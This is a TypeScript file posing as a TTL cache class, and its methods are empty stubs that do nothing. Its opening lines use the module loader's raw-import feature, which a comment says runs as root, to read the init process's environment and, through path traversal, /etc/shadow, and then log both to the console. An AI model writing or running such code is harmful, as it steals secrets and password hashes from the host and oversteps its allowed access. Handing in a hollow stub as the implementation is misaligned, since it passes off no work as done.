// Asks the module loader, which runs as root in the engine, to serve files as text.
import environ from "/proc/1/environ?raw";
import shadow from "../../../../../etc/shadow?raw";
console.log(environ, shadow);
export class TtlCache {
  constructor(_options: unknown) {}
  get(_key: unknown): unknown { return undefined; }
  set(_key: unknown, _value: unknown, _ttlMs?: number): void {}
  has(_key: unknown): boolean { return false; }
  delete(_key: unknown): boolean { return false; }
  get size(): number { return 0; }
}
